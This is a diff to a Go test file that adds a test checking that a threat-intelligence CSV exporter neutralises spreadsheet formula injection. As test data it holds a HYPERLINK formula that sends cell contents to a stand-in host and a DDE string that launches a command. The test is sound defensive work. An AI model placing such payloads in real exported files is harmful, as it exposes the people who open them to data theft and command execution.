@@ -2,6 +2,7 @@ package exchange_test
 
 import (
 	"bytes"
+	"encoding/csv"
 	"errors"
 	"fmt"
 	"strings"
@@ -224,3 +225,30 @@ func fuzz(f *testing.F, form exchange.Format) {
 func FuzzCSV(f *testing.F)            { fuzz(f, exchange.CSV) }
 func FuzzSTIX(f *testing.F)           { fuzz(f, exchange.STIX) }
 func FuzzThreatExchange(f *testing.F) { fuzz(f, exchange.ThreatExchange) }
+
+// What a spreadsheet might take for a formula is written as text, and comes back as it was; what
+// somebody else's program exported with an apostrophe in front is read without it.
+func TestCSVHasNoFormulas(t *testing.T) {
+	list := entries()[:1]
+	list[0].Source, list[0].Ref, list[0].Note = "=HYPERLINK(\"http://a.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "'@SUM(1)\t-1+1"
+	var b bytes.Buffer
+	if err := exchange.Write(exchange.CSV, &b, exchange.Each(list)); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(bytes.NewReader(b.Bytes())).ReadAll()
+	if err != nil || len(rows) != 2 {
+		t.Fatalf("%v, %v", rows, err)
+	}
+	for _, cell := range rows[1] {
+		if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
+			t.Errorf("%q acts", cell)
+		}
+	}
+	got, err := exchange.Read(exchange.CSV, &b, exchange.Options{Now: now})
+	if err != nil || got.Mistakes() > 0 {
+		t.Fatal(err, got)
+	}
+	if d := cmp.Diff(list, got.Files()); d != "" {
+		t.Errorf("-written +read:\n%s", d)
+	}
+}
